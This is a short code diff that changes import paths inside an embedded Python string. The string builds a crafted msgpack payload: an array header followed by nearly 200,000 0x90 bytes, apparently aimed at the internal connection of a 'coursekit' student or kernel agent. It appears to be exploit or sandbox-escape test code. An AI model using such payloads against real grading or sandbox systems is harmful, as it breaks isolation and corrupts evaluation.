@@ -3,8 +3,8 @@
 CODE = r"""
 import socket, struct, threading
 import msgpack
-from coursekit.engine import frames
-from coursekit.engine.student import agent
+from coursekit.engine.shared import frames
+from coursekit.engine.kernel import agent
 connection = agent._connection
 
 inner = b"\xdd\x00\x03\x0d\x00" + b"\x90" * 199_936
